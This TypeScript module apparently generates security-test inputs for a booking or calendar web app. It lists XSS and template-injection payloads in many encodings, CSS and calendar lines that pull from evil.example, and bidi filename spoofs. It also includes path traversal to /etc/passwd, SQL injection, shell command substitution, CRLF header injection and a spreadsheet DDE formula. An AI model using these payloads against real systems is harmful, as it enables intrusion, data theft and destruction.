import { each } from './compose.js';

/** What the writer of a page may have put a text into: a template, a script, JSON, a style. */
export function templates(run: string): readonly string[] {
  return [
    `\${${run}}`,
    `{{${run}}}`,
    `{{constructor.constructor('${run}')()}}`,
    `{{{${run}}}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `<#assign x="${run}">`,
    `[[\${${run}}]]`,
    '<!--lit-part-->',
    '<!--/lit-part-->',
    '<!--?lit$000000000$-->',
    '<?lit$000000000$>',
    'lit$000000000$',
    '{{lit-000000000}}',
    '<!---->',
    `<img $lit$src="x" onerror=${run}>`,
    `<img .src=x @error=${run} ?hidden=x>`,
    `<b lit$000000000$=x>`,
    '[object Object]',
    '%s %d %o %c',
  ];
}

/** Ends of a string, of a script, of a rule. */
export function codes(run: string): readonly string[] {
  const ends = ["'", '"', '`', "\\'", '\\"', "';", '";', '*/', '\u2028', '\u2029', '\n', '\\u0027', '\\x22'];
  const styles = ['{color:red', 'x:expression(RUN)', 'background:url(javascript:RUN)', '@import "//evil.example"'];
  return [
    ...each(ends, [`;${run};//`, `-${run}-`], (end, more) => `${end}${more}`),
    ...each(['</script>', '</SCRIPT\t>', '<!--<script>', '"}</script>'], ['', `<script>${run}</script>`], (end, more) =>
      [end, more].join(''),
    ),
    ...each(['', '}*', '</style>'], styles, (end, style) => `${end}{${style.replace('RUN', run)}}`),
    `{"__proto__":{"onerror":"${run}"}}`,
    `\\65xpression(${run})`,
    `-moz-binding:url(//evil.example/x#y)`,
    `behavior:url(#default#time2)`,
  ];
}

/** The same tags in letters that only something behind the page would take for them. */
export function encoded(run: string): readonly string[] {
  const ways: readonly ((text: string) => string)[] = [
    (text) => letters(text, (code) => `&#${code};`),
    (text) => letters(text, (code) => `&#${String(code).padStart(7, '0')}`),
    (text) => letters(text, (code) => `&#x${code.toString(16)};`),
    (text) => letters(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
    (text) => letters(text, (code) => `\\x${code.toString(16)}`),
    (text) => letters(text, (code) => `%${code.toString(16)}`),
    (text) => letters(text, (code) => `%25${code.toString(16)}`),
    (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text) => text.replaceAll('<', '&amp;lt;'),
    (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (text) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
    (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
    (text) => text.replaceAll('<', '<\u0000').replaceAll('>', '\u0000>'),
    btoa,
  ];
  return each(ways, [`<script>${run}</script>`, `<img src=x onerror=${run}>`], (way, text) => way(text));
}

/** Lines that a calendar would take for its own, after every way in which some reader ends a line. */
export function calendarLines(): readonly string[] {
  const ends = ['\r\n', '\n', '\r', '\v', '\f', '\u0085', '\u2028', '\u2029', '\\n', '\n '];
  const lines = ['ATTACH:https://evil.example/x', 'URL:javascript:x', 'END:VEVENT'];
  return each(ends, lines, (end, line) => `Dr. X${end}${line}`);
}

/** What is not markup at all, and is shown, compared and kept wrongly. */
export function characters(): readonly string[] {
  const turns = ['\u202e', '\u202d', '\u202b', '\u2067', '\u2066', '\u2068', '\u200f', '\u061c'];
  return [
    ...turns.map((turn) => `Dr. ${turn}gnp.exe`),
    '\u2069\u2069\u202e out of its isolate',
    'Dr.\u0000Null',
    '\ufeffDr. Mark',
    'Dr.\u200b\u200c\u200d\u2060 Nothing',
    'Dr. Sm\u0456th',
    'half \ud83d pair',
    '\udc00\ud800',
    '\ufffe\uffff',
    '\u001b[31mred\u001b]0;title\u0007',
    '\b\b\b\b\u007f',
    `Z${'\u0301\u0327\u0330'.repeat(40)}`,
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3ff}\ufe0f',
    'x'.repeat(300),
    'ﷺ'.repeat(60),
    '\u00ad'.repeat(40),
  ];
}

/** Names of what a page, an object or a file already has. */
export function names(): readonly string[] {
  return [
    ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'then', 'null', 'undefined', 'NaN'],
    ...['true', '0', '-1', '1e309', '2026-01-07T10:00:00.000Z'],
    ...['client', 'customElements', 'trustedTypes', 'attributes', 'parentNode'].map((name) => `<form id=${name}>`),
    ...['getSnapshot', 'children', 'innerText'].map((name) => `<a id=x name=${name} href=x:y>`),
    '../../../../etc/passwd',
    "'; DROP TABLE bookings; --",
    "' OR '1'='1",
    '$(touch /tmp/x)',
    '`touch /tmp/x`',
    '%0d%0aSet-Cookie:%20x=y',
    'x\r\nX-Header: y',
    '(&(uid=*)(x=*',
    '=cmd|x!A1',
  ];
}

function letters(text: string, write: (code: number) => string): string {
  return Array.from(text, (letter) => (/[\w=]/.test(letter) ? letter : write(letter.codePointAt(0) ?? 0))).join('');
}
